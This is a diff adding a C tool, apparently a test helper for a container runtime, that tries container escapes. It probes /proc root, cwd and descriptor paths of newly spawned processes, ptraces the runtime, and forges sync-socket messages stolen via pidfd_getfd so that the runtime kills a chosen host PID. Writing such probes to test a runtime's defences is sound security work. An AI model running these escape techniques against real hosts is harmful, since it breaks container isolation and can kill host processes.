@@ -1,0 +1,171 @@
+/*
+ * Runs inside a container and lies in wait for every new process of its pid namespace: what another
+ * runtime's exec (CVE-2016-9962) or a container that shares the namespace brings in. From each it
+ * tries to get the host: its root, its working directory, its descriptors, by ptrace.
+ *
+ *   attack-trace reach SECONDS PATH     through any of these, writes to PATH of the host
+ *   attack-trace forge SECONDS PID      takes the socket to the runtime out of it and tells the
+ *                                       runtime that the process it started is the host's PID,
+ *                                       and that it failed: one that believes this ends PID
+ *   attack-trace victim PATH            a careless runtime: waits with the host's root open
+ *
+ * Prints "ready", then a line for each success.
+ */
+#include <errno.h>
+#include <fcntl.h>
+#include <signal.h>
+#include <stdbool.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ptrace.h>
+#include <sys/socket.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+#include "runtime/init/sync.h"
+
+#define FDS 24
+#define UP "/../../../../../../../../../../../.."
+
+static double now(void)
+{
+	struct timespec t;
+
+	clock_gettime(CLOCK_MONOTONIC, &t);
+	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
+}
+
+/* The pid that was given last in this namespace (proc_loadavg(5)). */
+static pid_t newest(void)
+{
+	static int fd = -1;
+	char text[128], *last;
+	ssize_t n;
+
+	if (fd < 0)
+		fd = open("/proc/loadavg", O_RDONLY | O_CLOEXEC);
+	n = pread(fd, text, sizeof(text) - 1, 0);
+	text[n < 0 ? 0 : n] = 0;
+	last = strrchr(text, ' ');
+	return last ? atoi(last) : 0;
+}
+
+static bool write_there(const char *path, const char *what)
+{
+	int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
+
+	if (fd < 0)
+		return false;
+	if (write(fd, "taken\n", 6) != 6)
+		return false;
+	close(fd);
+	printf("reached the host by %s\n", what);
+	return true;
+}
+
+/* One try at everything. */
+static bool reach(pid_t pid, const char *target)
+{
+	char path[4096], link[64];
+	bool got = false;
+	ssize_t n;
+
+	snprintf(path, sizeof(path), "/proc/%d/root%s", (int)pid, target);
+	got |= write_there(path, "root");
+	snprintf(path, sizeof(path), "/proc/%d/cwd" UP "%s", (int)pid, target);
+	got |= write_there(path, "cwd");
+	for (int fd = 0; fd < FDS; fd++) {
+		snprintf(path, sizeof(path), "/proc/%d/fd/%d" UP "%s", (int)pid, fd, target);
+		got |= write_there(path, "a descriptor");
+	}
+	snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
+	n = readlink(path, link, sizeof(link) - 1);
+	link[n < 0 ? 0 : n] = 0;
+	/* The shim is the container's already; the runtime itself must not be. */
+	if (n > 0 && link[0] == '/' && strstr(link, "/mrun") &&
+	    ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) {
+		printf("traced %s\n", link);
+		ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
+		waitpid(pid, NULL, __WALL);
+		ptrace(PTRACE_DETACH, pid, NULL, NULL);
+		got = true;
+	}
+	return got;
+}
+
+/* As the process in between says it, then as an error that ends the set-up (sync.c). */
+static void say(int fd, pid_t victim)
+{
+	static struct {
+		char tag;
+		char error[sizeof(struct error)];
+	} last = { .tag = SYNC_ERROR };
+	char pid[1 + sizeof(pid_t)] = { SYNC_PID };
+
+	memcpy(pid + 1, &victim, sizeof(victim));
+	send(fd, pid, sizeof(pid), 0);
+	send(fd, &last, sizeof(last), 0);
+}
+
+static bool forge(int pidfd, pid_t victim)
+{
+	for (int n = 3; n < FDS; n++) {
+		socklen_t len = sizeof(int);
+		int fd = (int)syscall(SYS_pidfd_getfd, pidfd, n, 0), type = 0;
+
+		if (fd < 0 && errno == EPERM)
+			return false;
+		if (fd < 0)
+			continue;
+		if (getsockopt(fd, SOL_SOCKET, SO_TYPE, &type, &len) == 0 &&
+		    type == SOCK_SEQPACKET) {
+			say(fd, victim);
+			puts("sent");
+			return true;
+		}
+		close(fd);
+	}
+	return false;
+}
+
+static int victim(const char *path)
+{
+	if (open(path, O_RDONLY | O_DIRECTORY) < 0)
+		return 1;
+	for (;;)
+		pause();
+}
+
+int main(int argc, char **argv)
+{
+	bool forging = argc == 4 && strcmp(argv[1], "forge") == 0;
+	double end = now() + (argc == 4 ? atof(argv[2]) : 0);
+	pid_t next = getpid() + 1;
+
+	if (argc == 3 && strcmp(argv[1], "victim") == 0)
+		return victim(argv[2]);
+	if (argc != 4)
+		return 2;
+	setvbuf(stdout, NULL, _IONBF, 0);
+	puts("ready");
+	while (now() < end) {
+		pid_t last = newest();
+
+		for (pid_t p = next; p <= last; p++) {
+			int pidfd = (int)syscall(SYS_pidfd_open, p, 0);
+			double until = now() + 0.5;
+
+			next = p + 1;
+			if (pidfd < 0)
+				continue;
+			while (now() < until && now() < end && kill(p, 0) == 0)
+				if (forging ? forge(pidfd, atoi(argv[3])) : reach(p, argv[3]))
+					break;
+			close(pidfd);
+		}
+	}
+	return 0;
+}
